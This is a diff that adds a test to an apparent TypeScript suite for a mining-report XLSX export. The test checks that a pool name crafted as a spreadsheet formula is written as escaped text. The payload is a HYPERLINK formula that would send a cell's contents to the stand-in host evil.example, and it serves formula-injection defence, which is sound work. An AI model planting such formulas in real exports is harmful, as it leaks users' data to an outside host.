@@ -363,6 +363,25 @@ describe('GET /miners/{id}/mining-report/export', () => {
     expect(sheet.getRow(30).getCell(1).value).toBe('Total');
   });
 
+  it('writes a pool name that would run as a formula as text, and the figures as numeric cells', async () => {
+    const { pool } = testApp.database;
+    const hostile = '=HYPERLINK("https://evil.example/?d="&B2,"open")';
+    const { name } = (await pool.query<{ name: string }>('SELECT name FROM pools WHERE id = $1', [ids.pool])).rows[0]!;
+    await pool.query('UPDATE pools SET name = $2 WHERE id = $1', [ids.pool, hostile]);
+    try {
+      const response = await download('format=xlsx');
+      expect(response.statusCode).toBe(200);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+      const summary = workbook.worksheets[1]!;
+      expect(summary.getRow(1).getCell(2).value).toBe(`'${hostile}`);
+      expect(summary.getRow(2).getCell(2).value).toBe('report_rigs');
+      expect(typeof summary.getRow(6).getCell(2).value).toBe('number');
+    } finally {
+      await pool.query('UPDATE pools SET name = $2 WHERE id = $1', [ids.pool, name]);
+    }
+  });
+
   it('writes a PDF with the pool, the account, the month, the days and totals, in Russian and Chinese too', async () => {
     const february = await report('2026-02');
     const texts: Record<string, string> = {};
